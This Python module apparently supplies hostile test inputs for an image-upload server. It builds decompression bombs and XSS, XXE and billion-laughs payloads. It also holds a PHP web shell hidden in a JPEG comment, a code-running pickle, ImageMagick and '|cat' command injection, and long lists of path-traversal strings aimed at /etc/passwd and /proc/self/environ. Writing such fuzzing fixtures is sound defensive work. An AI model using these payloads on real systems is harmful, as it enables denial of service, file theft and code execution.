"""Files and texts that are sent to a server to break it."""

import struct
import zlib
from io import BytesIO

from PIL import Image

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
# What runs if a page shows a name, a text or a file as HTML.
HTML = "<svg onload=alert(1)>"
SECRETS = ("secret.txt", "best.pt", "../secret.txt", "../../etc/passwd", "/etc/passwd", "/proc/self/environ")


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def claimed_png(width: int, height: int, *extra: bytes) -> bytes:
    """A PNG whose header claims a size, with next to no data."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"".join([PNG_SIGNATURE, header, *extra, chunk(b"IDAT", zlib.compress(b"\0" * 100)), chunk(b"IEND", b"")])


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    stream = BytesIO()
    image.save(stream, kind, **options)
    return stream.getvalue()


def large_image() -> bytes:
    """A small file of an image of almost 50 megapixels, which takes the server about a second."""
    return saved(Image.new("1", (9_900, 5_000)), "PNG")


def _frame_bomb() -> bytes:
    """A GIF whose first frame is larger than its header says."""
    small = bytearray(saved(Image.new("P", (8, 8)), "GIF"))
    at = small.index(b",\0\0\0\0\x08\0\x08\0")
    small[at + 5 : at + 9] = struct.pack("<HH", 60_000, 60_000)
    return bytes(small)


def bombs() -> list[bytes]:
    """Small files that decode to much, or claim to."""
    text = zlib.compress(bytes(60_000_000), 9)
    vast = large_image()
    bitmap = bytearray(saved(Image.new("RGB", (4, 4)), "BMP"))
    bitmap[18:26] = struct.pack("<ii", 60_000, 60_000)
    return [
        claimed_png(60_000, 60_000),
        claimed_png(10_000, 5_001),
        claimed_png(9_999, 5_000),
        claimed_png(8, 8, chunk(b"zTXt", b"Comment\0\0" + text)),
        claimed_png(8, 8, chunk(b"iCCP", b"profile\0\0" + text)),
        claimed_png(8, 8, *[chunk(b"tEXt", b"a\0" + bytes(10))] * 20_000),
        saved(Image.new("1", (30_000, 1)), "PNG"),
        vast,
        vast[: len(vast) // 2],
        _frame_bomb(),
        bytes(bitmap),
        saved(Image.new("RGB", (16_000, 3_000)), "JPEG", quality=1),
    ]


def others() -> list[bytes]:
    """Files that are no images, or that a browser could take for something else."""
    gif = saved(Image.new("P", (8, 8)), "GIF")
    png = saved(Image.new("RGB", (8, 8), "red"), "PNG")
    jpeg = saved(Image.new("RGB", (8, 8), "red"), "JPEG", comment=b"<?php system($_GET['c']); ?>")
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    return [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='file:///etc/passwd'/></svg>",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "a">' + entities + b"]><svg>&a9;</svg>",
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg>&f;</svg>',
        b"GIF89a/*" + bytes(100) + b"*/=1;alert(1)//;",
        gif + b"*/=1;alert(1)//",
        png + b"<script>alert(1)</script>",
        jpeg,
        jpeg + b"PK\x05\x06" + bytes(18),
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file",
        b"%PDF-1.7\n1 0 obj<</OpenAction/JS(app.alert(1))>>",
        b"push graphic-context\nimage over 0,0 0,0 'https://127.0.0.1/x|ls'",
        b"\0asm\1\0\0\0",
        b"II*\0" + bytes(100),
        b"\x80\4\x8c\2os\x8c\6system\x93\x8c\2id\x85R.",
        b"",
        png[:40],
        png[:8],
    ]


def traversals() -> list[str]:
    """Names of files outside of the gallery, written in many ways; parts of an address that are not encoded again."""
    found = []
    for secret in SECRETS:
        bare = secret.lstrip("./")
        for up in (
            "../",
            "..%2f",
            "%2e%2e/",
            "%2e%2e%2f",
            "..%252f",
            "%252e%252e%252f",
            "..%5c",
            "..\\",
            "..%255c",
            "....//",
            "..;/",
            "..%c0%af",
            "%c0%ae%c0%ae/",
            "..%u2215",
            "%uff0e%uff0e/",
            "..%ef%bc%8f",
            "%ef%bc%8e%ef%bc%8e/",
            ".%00./",
            "..%00/",
            "./../",
            "in/../../",
            "..%0d%0a/",
            "%e2%80%a5/",
        ):
            found += [up * depth + bare for depth in (1, 3, 8)]
        found += [
            f"/{bare}",
            f"//{bare}",
            f"file:///{bare}",
            f"file:{bare}",
            f"\\\\127.0.0.1\\{bare}",
            f"C:\\{bare}",
            f"{bare}%00.png",
            f"{bare}%0a.png",
            f"turned.png/../{bare}",
            f"~/{bare}",
            f"$HOME/{bare}",
            f"${{HOME}}/{bare}",
            f"%2f{bare}",
            f"%252f{bare}",
            f"http://127.0.0.1/{bare}",
            f"|cat {bare}".replace(" ", "%20"),
        ]
    return [*found, "turned.png", ".", "..", "%2e", "", "%00", "CON", "a" * 5_000, "%ff%fe", "%ed%a0%80"]
